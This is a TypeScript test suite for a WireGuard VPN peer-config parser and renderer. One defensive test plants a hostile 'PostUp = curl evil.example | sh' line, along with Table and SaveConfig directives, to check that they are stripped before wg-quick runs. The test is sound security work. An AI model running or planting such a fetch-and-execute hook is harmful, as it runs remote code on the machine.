import { generateKeyPair, renderClientConfig } from '@hivemind/contracts/wireguard';
import { PeerConfigError, parsePeerConfig, poolAddressInTunnel, renderNodeConfig } from './peer-config';

const server = generateKeyPair();
const node = generateKeyPair();
/** What the pool answers for a peer whose client sent its own public key. */
const fromPool = (over: Partial<Parameters<typeof renderClientConfig>[0]> = {}) =>
  renderClientConfig({
    name: 'node-1',
    address: '10.128.0.7',
    dns: [],
    serverPublicKey: server.publicKey,
    endpoint: 'vpn.example.org:51820',
    allowedIps: ['10.128.0.0/16'],
    keepaliveS: 25,
    ...over,
  });

describe(parsePeerConfig.name, () => {
  it('reads the config the pool renders', () => {
    expect(parsePeerConfig(fromPool())).toEqual({
      address: '10.128.0.7',
      serverPublicKey: server.publicKey,
      endpoint: 'vpn.example.org:51820',
      allowedIps: ['10.128.0.0/16'],
      keepaliveS: 25,
    });
  });

  it('keeps nothing but the known fields: no PostUp, no DNS, no Table reach wg-quick', () => {
    const hostile = fromPool({ dns: ['10.128.0.1'] }).replace(
      '[Interface]',
      '[Interface]\nPostUp = curl evil.example | sh\nTable = off\nSaveConfig = true',
    );
    const rendered = renderNodeConfig(parsePeerConfig(hostile), node.privateKey);
    expect(rendered).not.toMatch(/PostUp|curl|DNS|Table|SaveConfig/);
    expect(rendered).toContain(`PrivateKey = ${node.privateKey}`);
  });

  it.each([
    ['no peer', fromPool().replace(/\[Peer\][^]*$/, '')],
    ['two peers', `${fromPool()}\n[Peer]\nPublicKey = ${server.publicKey}\n`],
    ['an IPv6 address', fromPool().replace('10.128.0.7/32', 'fd00::7/128')],
    ['a network as the address', fromPool().replace('10.128.0.7/32', '10.128.0.0/16')],
    ['a bad server key', fromPool().replace(server.publicKey, 'abc')],
    ['an endpoint with a space', fromPool().replace('vpn.example.org:51820', 'vpn example:51820')],
    ['an endpoint without a port', fromPool().replace('vpn.example.org:51820', 'vpn.example.org')],
    ['all traffic through the tunnel', fromPool({ allowedIps: ['0.0.0.0/0'] })],
    ['a key without a section', `Foo = bar\n${fromPool()}`],
    ['a huge text', `${fromPool()}${'#'.repeat(20_000)}`],
  ])('refuses %s', (_what, text) => {
    expect(() => parsePeerConfig(text)).toThrow(PeerConfigError);
  });
});

describe(renderNodeConfig.name, () => {
  it('writes the pool’s peer with this node’s private key, for wg-quick', () => {
    expect(renderNodeConfig(parsePeerConfig(fromPool()), node.privateKey)).toBe(
      [
        '# HiveMind VPN: this worker node (VPN_AUTO_JOIN); rewritten at every join',
        '[Interface]',
        `PrivateKey = ${node.privateKey}`,
        'Address = 10.128.0.7/32',
        '',
        '[Peer]',
        `PublicKey = ${server.publicKey}`,
        'Endpoint = vpn.example.org:51820',
        'AllowedIPs = 10.128.0.0/16',
        'PersistentKeepalive = 25',
        '',
      ].join('\n'),
    );
  });
});

describe(poolAddressInTunnel.name, () => {
  const peer = parsePeerConfig(fromPool());
  it.each([
    [peer, 'pool.example.org:50051', undefined, '10.128.0.1:50051'],
    [peer, 'pool.example.org:443', '10.128.9.9:50051', '10.128.9.9:50051'],
    [{ ...peer, allowedIps: ['10.0.0.0/24', '10.128.0.0/16'] }, 'p:50051', undefined, '10.0.0.1:50051'],
    [{ ...peer, allowedIps: ['10.128.0.1/32'] }, 'p:50051', undefined, undefined],
  ])('%# → %s', (config, direct, override, expected) => {
    expect(poolAddressInTunnel(config, direct, override)).toBe(expected);
  });
});
